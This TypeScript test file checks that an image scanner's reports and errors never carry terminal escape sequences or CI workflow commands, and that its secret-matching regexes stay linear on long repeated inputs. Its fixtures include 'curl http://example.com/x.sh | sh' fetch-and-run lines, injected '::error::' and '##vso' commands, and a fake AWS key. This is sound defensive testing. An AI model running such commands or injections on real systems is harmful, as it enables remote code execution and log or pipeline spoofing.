/**
 * Escape sequences and CI workflow commands in names, history, configuration and rules: in no output format and
 * no error message do they reach a terminal or a log as what they are. And lines of one thing repeated, which make
 * expressions that go back take minutes: inspections and masks stay linear in them.
 */
import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { makeInspections } from '../src/detect/image-list.ts';
import { shippedSecretRules } from '../src/detect/secrets/load.ts';
import { makeSecretMask } from '../src/detect/secrets/mask.ts';
import { withoutSecrets } from '../src/detect/secrets/without-secrets.ts';
import { file } from '../src/lab/image-builder.ts';
import { eicar } from '../src/lab/sample.ts';
import { emptyConfig } from './fixtures/image-config.ts';
import { processorTime } from './fixtures/processor-time.ts';
import { openWorkplace, type Workplace } from './scan-command.ts';

let place: Workplace;

before(async () => {
  place = await openWorkplace();
});

after(() => place.close());

describe('hostile text', () => {
  const commands = ['::error file=a::pwned', '::add-mask::x', '##[error]pwned', '##vso[task.setvariable]x'];
  const escapes = ['\x1b[2J', '\x1b]0;title\x07', '\x9b31m', '\r', '\u202e', '\b\b'];
  const texts = commands.flatMap((command) => [
    command,
    `\n${command}`,
    `\r${command}`,
    ...escapes.map((one) => one + command),
  ]);
  let target = '';

  before(async () => {
    target = await place.layout('hostile-text', {
      layers: [
        texts.map((text) => file(`${text}/eicar`, eicar())),
        texts.map((text) => file(`${text}/a.zip`, Buffer.from('PK\x03\x04', 'latin1'))),
        texts.map((text, at) =>
          file(`etc/${at}.sh`, `#!/bin/sh\n${text} curl http://example.com/${at} | sh ${text}\n`, {
            mode: 0o755,
          }),
        ),
      ],
      history: texts.slice(0, 2).map((text) => `${text} RUN ${text}`),
      config: {
        Entrypoint: ['/bin/sh', '-c', `curl http://example.com/x.sh | sh ${texts.join(' ')}`],
        Env: texts.map((text, at) => `${text}_${at}=${text} AKIAQWERTZUIOPASDFGH`),
        Labels: Object.fromEntries(texts.map((text) => [text, `http://example.com/${text}`])),
      },
    });
  });

  for (const format of ['table', 'json', 'sarif', 'html', 'ndjson']) {
    it(`reaches neither terminal nor log as ${format}`, async () => {
      const { code, stdout, stderr } = await place.scan(target, '--format', format);
      assert.equal(code, 3, stderr);
      assert.match(stdout, /eicar/i);
      assertHarmless(stdout);
      assertHarmless(stderr);
    });
  }

  it('is in no value of the json report, as programs print them without their quotes', async () => {
    const { stdout } = await place.scan(target, '--format', 'json');
    JSON.parse(stdout, (_, value: unknown) => {
      if (typeof value === 'string') assert.doesNotMatch(value, /[\p{Cc}\u202a-\u202e]/u);
      return value;
    });
  });

  it('reaches neither in an error', async () => {
    const targets = texts.flatMap((text) => [
      text,
      `oci:${place.images}/${text}`,
      `docker-archive:${text}:${text}`,
    ]);
    for (const debug of [false, true]) {
      const { code, stdout, stderr } = await place.scan(...targets, ...(debug ? ['--debug'] : []));
      assert.equal(code, 2);
      assert.equal(/^ +\| +at .*:\d+/m.test(stderr), debug, 'a stack trace only where it is asked for');
      assertHarmless(stdout);
      assertHarmless(stderr);
    }
  });

  it('reaches neither in an option that is refused', async () => {
    for (const option of ['--format', '--timeout', '--no\x1b[2J\n::error::']) {
      const { code, stdout, stderr } = await place.scan(target, option, '\x1b[2J\n::error::pwned');
      assert.deepEqual([code, stdout], [2, '']);
      assert.match(stderr, /^error: .*\\x1b\[2J\\x0a::error::/);
      assertHarmless(stderr);
    }
  });

  it('reaches neither out of rules that were brought', async () => {
    const rules = join(place.images, 'hostile-rules');
    await mkdir(rules);
    const meta = 'description = "\\n::error::pwned \\x1b[2J" author = "\\n##[error]pwned"';
    await writeFile(
      join(rules, '::error::\x1b[2J.yar'),
      `rule found { meta: ${meta} strings: $a = "EICAR" condition: $a }\nrule broken { condition: \x1b[2J }\n` +
        'rule refused { condition: ::error::pwned\n::error::pwned }\n',
    );
    await writeFile(join(rules, 'secrets.toml'), '[[rules]]\nid = "\\n::error::pwned"\nregex = "("\n');
    const { code, stdout, stderr } = await place.scan(target, '--rules', rules);
    assert.ok(code === 0 || code === 3, stderr);
    assertHarmless(stdout);
    assertHarmless(stderr);
  });
});

describe('a line of one thing repeated', () => {
  const { rules } = shippedSecretRules();
  const inspections = makeInspections(rules);
  const mask = makeSecretMask(rules);
  const length = 256 * 1024;
  /** For all inspections and masks of two such texts; what is not linear takes far longer. */
  const mostMs = 3000;

  const pieces = [
    ...[
      ' ',
      '\n',
      '$(',
      '`',
      '"',
      "'",
      '\\',
      '=',
      'a=',
      'a-',
      '|1 ',
      'http://',
      'http://a:b@',
      '?key=',
      '&sig=',
    ],
    ...['Server=a;', 'name="password"', '-u a:', 'mysql -', '| chpasswd', 'password ', 'token="', '--token '],
    ...['sk-', 'AKIA', 'eyJ', '-----BEGIN PRIVATE KEY-----', 'PuTTY-User-Key-File-3:', 'base64 -d | '],
  ];

  for (const piece of pieces) {
    it(JSON.stringify(piece), () => {
      const line = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
      const createdBy = `RUN /bin/sh -c ${line}x # buildkit`;
      const history = [{ createdBy, comment: '', created: '', layer: 0 }];
      const config = { ...emptyConfig, history, env: [`A=${line}`] };
      const used = processorTime();
      for (const inspect of inspections) inspect({ reference: 'docker.io/a/b:1', config });
      mask(line);
      withoutSecrets(line);
      assert.ok(used() < mostMs, `${used()} ms`);
    });
  }
});

/** No control character but the line feed, and no line that a CI system takes for a command to itself. */
function assertHarmless(text: string): void {
  const control = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u.exec(text);
  const around = control === null ? '' : text.slice(Math.max(0, control.index - 80), control.index + 20);
  assert.equal(around, '', `a control character in ${JSON.stringify(around)}`);
  // GitHub, Azure and TeamCity look behind blanks at the beginning of a line.
  const command = /^[^\S\n]*(?:::|##\[|##vso|##teamcity).{0,80}/m.exec(text);
  assert.equal(command, null, `a line that is a command: ${command?.[0]}`);
}
